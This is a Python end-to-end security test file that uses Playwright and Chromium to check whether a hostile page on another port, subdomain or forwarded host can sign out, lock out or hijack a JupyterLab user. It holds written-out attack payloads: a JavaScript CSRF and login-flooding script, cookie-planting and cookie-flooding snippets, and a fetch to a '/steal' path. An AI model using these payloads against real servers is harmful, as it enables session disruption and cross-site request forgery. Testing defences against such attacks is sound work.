"""A real Chromium: what a page on another port, on another subdomain, and of another host of `connect` can do to who is signed in."""

from __future__ import annotations

import asyncio
import contextlib
import ssl
import threading
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import TYPE_CHECKING, Any

import pytest
from playwright.sync_api import Browser, BrowserContext, Page, sync_playwright

from jupyter_remote_kit.host import localports
from jupyter_remote_kit.host.forwarder import Forwarder
from jupyter_remote_kit.plan.localname import LocalName
from jupyter_remote_kit.plan.ssh import Near
from jupyter_remote_kit.settings import Access
from tests.e2e.stage.laptop import FETCH, FLAGS, STARTS_WITHIN_MS, chromium
from tests.server.conftest import PASSWORD, Machine, Server, machine

__all__ = ["machine"]

if TYPE_CHECKING:
    from jupyter_remote_kit.settings import Settings

pytestmark = [pytest.mark.slow, pytest.mark.e2e]

GPU, EVIL = "gpu.campus.test", "evil.campus.test"
IMAGES = 6
# Everything that a page can have a browser send without being asked: images, with and without a referrer, forms into frames, requests,
# pages that are loaded ahead.
ATTACK = """async ([target, images, silent]) => {
  const load = path => new Promise(done => {
    const image = new Image();
    if (silent) { image.referrerPolicy = 'no-referrer'; }
    image.onload = image.onerror = done;
    image.src = target + path;
  });
  const send = (path, fields) => new Promise(done => {
    const frame = document.createElement('iframe');
    frame.name = 'f' + Math.random();
    document.body.append(frame);
    const form = document.createElement('form');
    Object.assign(form, {method: 'post', action: target + path, target: frame.name});
    for (const [name, value] of Object.entries(fields)) {
      const input = document.createElement('input');
      Object.assign(input, {name, value});
      form.append(input);
    }
    document.body.append(form);
    frame.onload = done;
    form.submit();
    setTimeout(done, 2000);
  });
  const ahead = async paths => {
    const rules = document.createElement('script');
    rules.type = 'speculationrules';
    const urls = paths.map(path => target + path);
    rules.textContent = JSON.stringify({prefetch: [{source: 'list', urls, referrer_policy: silent ? 'no-referrer' : 'origin'}]});
    document.head.append(rules);
    await new Promise(done => setTimeout(done, 500));
  };
  await ahead(['/logout', ...Array.from({length: images}, (_, number) => '/lab?token=ahead' + number)]);
  await load('/logout');
  for (let number = 0; number < images; number++) {
    await load('/x.png?token=wrong' + number);
  }
  const planted = (document.cookie.match(/_xsrf=([^;]+)/) || [, 'x'])[1];
  await send('/logout', {_xsrf: planted});
  for (let number = 0; number < images; number++) {
    await send('/login', {_xsrf: planted, password: 'wrong' + number});
  }
  await send('/api/kernels', {_xsrf: planted, token: 'wrong'});
  await fetch(target + '/api/terminals', {method: 'POST', mode: 'no-cors', credentials: 'include'}).catch(() => 0);
}"""

PLANT = "([name, path, value]) => { document.cookie = `${name}=${value}; Domain=campus.test; Path=${path}`; }"


@dataclass
class Foreign:
    """A web server that is not ours; `seen` are the names and the cookies that requests came with."""

    url: str
    port: int
    seen: list[tuple[str, str]] = field(default_factory=list)

    def cookies(self, name: str) -> list[str]:
        """Those that came under this name."""
        return [cookie for host, cookie in self.seen if host.partition(":")[0] == name and cookie]


@contextlib.contextmanager
def foreign(name: str, leaf: Path | None = None) -> Iterator[Foreign]:
    """A page at `name`, on a port of its own; over TLS with the certificate and key in `leaf`."""

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            told.seen.append((self.headers.get("Host", ""), self.headers.get("Cookie", "")))
            self.send_response(200)
            self.send_header("Content-Type", "text/html")
            self.send_header("Content-Length", "12")
            self.end_headers()
            self.wfile.write(b"<body></body")

        def log_message(self, *_: Any) -> None:
            """Not on the terminal of the tests."""

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    if leaf is not None:
        context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
        context.load_cert_chain(leaf)
        server.socket = context.wrap_socket(server.socket, server_side=True)
    told = Foreign(f"{'https' if leaf else 'http'}://{name}:{server.server_port}", server.server_port)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        yield told
    finally:
        server.shutdown()
        server.server_close()
        thread.join()


@pytest.fixture(scope="module")
def browser() -> Iterator[Browser]:
    """With a name server of its own: the campus is this machine."""
    if chromium() is None:
        pytest.skip("needs chromium (Debian's package)")
    flags = (*FLAGS, "--host-resolver-rules=MAP *.campus.test 127.0.0.1")
    with sync_playwright() as playwright:
        launched = playwright.chromium.launch(executable_path=chromium(), args=list(flags), timeout=STARTS_WITHIN_MS)
        try:
            yield launched
        finally:
            launched.close()


@pytest.fixture
def profile(browser: Browser) -> Iterator[BrowserContext]:
    """A browser that was never here. The private authority is not what this is about."""
    context = browser.new_context(ignore_https_errors=True)
    context.set_default_timeout(STARTS_WITHIN_MS)
    yield context
    context.close()


def sign_in(page: Page, url: str, password: str = PASSWORD) -> None:
    """At the form, which need not be open."""
    if not page.url.startswith(f"{url}/login"):
        page.goto(f"{url}/login?next=/api/status")
    page.fill("input[type=password]", password)
    page.press("input[type=password]", "Enter")
    page.wait_for_load_state()


def works(page: Page, url: str) -> bool:
    """Whether a page of JupyterLab would do: who has this tab is signed in, and changes things with its XSRF token."""
    page.goto(f"{url}/login")
    made = page.evaluate(FETCH, ["POST", "/api/terminals", None])
    page.evaluate(FETCH, ["DELETE", f"/api/terminals/{made['name']}", None])
    return bool(made["name"])


def has_its_guesses(browser: Browser, url: str, evil_url: str) -> bool:
    """Whether a browser that is not signed in may be wrong after a page's attack, and is let in when it is right."""
    context = browser.new_context(ignore_https_errors=True)
    try:
        page = context.new_page()
        attack(page, url, evil_url)
        for number in range(4):
            sign_in(page, url, f"mistyped{number}")
            assert "Wrong password or token." in page.inner_text("[role=alert]")
        sign_in(page, url)
        return page.url == f"{url}/api/status"
    finally:
        context.close()


def attack(page: Page, url: str, evil_url: str) -> None:
    """What a page at `evil_url` can do to the server at `url`."""
    page.goto(evil_url)
    for silent in (False, True):
        page.evaluate(ATTACK, [url, IMAGES, silent])


@pytest.fixture
def started(machine: Machine) -> Callable[..., tuple[Settings, Server]]:
    """A server that is ready."""

    def start(**changes: Any) -> tuple[Settings, Server]:
        settings = machine.settings(**changes)
        server = machine.start(settings)
        server.ready()
        return settings, server

    return start


Started = Callable[..., "tuple[Settings, Server]"]


# -- another port, another subdomain -----------------------------------------------------------------------------------------------


@pytest.mark.parametrize("where", ["another port of localhost", "a subdomain, plain HTTP", "a subdomain, TLS"])
def test_the_owner_stays_signed_in_and_is_not_slowed_down(
    where: str, machine: Machine, started: Started, browser: Browser, profile: BrowserContext
) -> None:
    tls, local = where.endswith("TLS"), where.endswith("localhost")
    leaf = machine.layout.leaf_file("default") if tls else None
    if tls:
        machine.issue_leaf(GPU)
    lan = {} if local else {"access": Access.LAN, "plain_http": not tls, "allow_hosts": (GPU,)}
    settings, server = started(**lan)
    name = "localhost" if local else GPU
    url = f"{settings.scheme}://{name}:{settings.port}"
    tab, other = profile.new_page(), profile.new_page()
    sign_in(tab, url)
    with foreign("localhost" if local else EVIL, leaf) as evil:
        attack(other, url, evil.url)
        assert [row["way"] for row in server.control.sessions()] == ["password"]
        assert works(tab, url)
        assert has_its_guesses(browser, url, evil.url)


@pytest.mark.parametrize("tls", [False, True])
def test_cookies_that_another_subdomain_sets_keep_no_user_out(
    tls: bool, machine: Machine, started: Started, profile: BrowserContext
) -> None:
    if tls:
        machine.issue_leaf(GPU)
    settings, server = started(access=Access.LAN, plain_http=not tls, allow_hosts=(GPU,))
    url = f"{settings.scheme}://{GPU}:{settings.port}"
    tab, other = profile.new_page(), profile.new_page()
    sign_in(tab, url)
    names = [cookie["name"] for cookie in profile.cookies(url)]
    with foreign(EVIL, machine.layout.leaf_file("default") if tls else None) as evil:
        other.goto(evil.url)
        for name in names:
            for path in ("/", "/api", "/api/terminals", "/login", "/lab", "/lab/api"):
                other.evaluate(PLANT, [name, path, f"planted{path.replace('/', '-')}"])
        attack(other, url, evil.url)
    assert len(profile.cookies(url)) > len(names)
    assert len(server.control.sessions()) == 1
    assert works(tab, url)
    # tornado cannot read this one, and the page has no other: its form's token is compared with nothing.
    with foreign(EVIL, machine.layout.leaf_file("default") if tls else None) as evil:
        other.goto(evil.url)
        for value in ("2|x", "2|zz|zz|zz", ""):
            for path in ("/", "/login", "/logout"):
                other.evaluate(PLANT, ["_xsrf", path, value])
            tab.goto(f"{url}/logout")
            if "Sign out of JupyterLab?" in tab.inner_text("h1"):
                tab.click("button[type=submit]")
                tab.wait_for_load_state()
            assert "You are signed out" in tab.inner_text("h1")
            assert server.control.sessions() == []
            sign_in(tab, url)
            assert tab.url == f"{url}/api/status"
            assert len(server.control.sessions()) == 1


# -- hosts of `connect` ------------------------------------------------------------------------------------------------------------


@contextlib.contextmanager
def forwarded(local: LocalName, port: int) -> Iterator[str]:
    """The laptop's port of a line that leads to `port`; the URL that `connect` would tell."""
    loop = asyncio.new_event_loop()
    thread = threading.Thread(target=loop.run_forever, daemon=True)
    thread.start()
    forwarder = Forwarder(local.port, local)
    asyncio.run_coroutine_threadsafe(forwarder.listen(), loop).result(10)
    loop.call_soon_threadsafe(forwarder.line_is_up, Near(port=port))
    try:
        yield f"http://{local.name}:{local.port}"
    finally:
        asyncio.run_coroutine_threadsafe(forwarder.close(), loop).result(10)
        loop.call_soon_threadsafe(loop.stop)
        thread.join()
        loop.close()


def test_a_hostile_host_of_connect_reaches_no_other(started: Started, browser: Browser, profile: BrowserContext) -> None:
    settings, server = started()
    good = LocalName("gpu-example-org.localhost", "gpu.example.org.localhost", localports.free())
    bad = LocalName("evil-example-org.localhost", "evil.example.org.localhost", localports.free())
    with foreign("127.0.0.1") as evil, forwarded(good, settings.port) as url, forwarded(bad, evil.port) as evil_url:
        tab, other = profile.new_page(), profile.new_page()
        sign_in(tab, url)
        other.goto(evil_url)
        # Cookies for every name above, far too many of them: they would be sent to the other host, which answers 431.
        for domain in ("localhost", "example.org.localhost", "org.localhost", good.name):
            for number in range(20):
                planted = f"c{number}={'x' * 1000}; Domain={domain}; Path=/"
                other.evaluate("planted => { document.cookie = planted; }", planted)
        attack(other, url, evil_url)
        # The other host's name at this one's port: its cookies would come along, and could be set from there.
        other.goto(f"http://{good.name}:{bad.port}/steal")
        assert other.url == f"{evil_url}/steal"
        other.evaluate("url => fetch(url, {mode: 'no-cors', credentials: 'include'})", f"http://{good.name}:{bad.port}/steal")
        assert evil.cookies(good.name) == []
        assert {name.partition(":")[0] for name, _ in evil.seen} == {bad.name}
        # A bookmark from before.
        tab.goto(f"http://{good.former}:{good.port}/api/status")
        assert tab.url == f"{url}/api/status"
        assert "connections" in tab.content()
        assert works(tab, url)
        assert has_its_guesses(browser, url, evil_url)
    assert {row["way"] for row in server.control.sessions()} == {"password"}
